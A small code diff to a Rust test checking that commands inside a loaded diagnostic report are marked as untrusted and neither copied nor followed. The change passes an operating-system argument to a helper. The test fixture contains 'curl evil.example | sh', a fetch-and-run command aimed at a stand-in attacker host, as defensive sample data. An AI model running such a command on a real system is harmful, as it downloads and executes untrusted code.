@@ -63,7 +63,7 @@ fn a_command_of_a_report_is_marked_and_neither_copied_nor_led_to() {
         {"id":"no.such","severity":"broken","title":"Another","advice":["curl evil.example"],"docs":"https://evil.example","step":"api_key"}],
         "repairs":[{"id":"sign_in.again","title":"Do it","risk":"safe","manual":["curl evil.example | sh"]}]}"#;
     let report = crate::model::report::Report::read(report.as_bytes()).unwrap();
-    let mut state = State { book: crate::causes::book(), ..State::new(100, 60) };
+    let mut state = State { book: crate::causes::book(crate::model::machine::Os::Linux), ..State::new(100, 60) };
     state.show(opened("a.json".into(), &report, Vec::new()));
     state.screen = Screen::Step(crate::model::step::Step::ApiKey);
     let text = seen(&state);
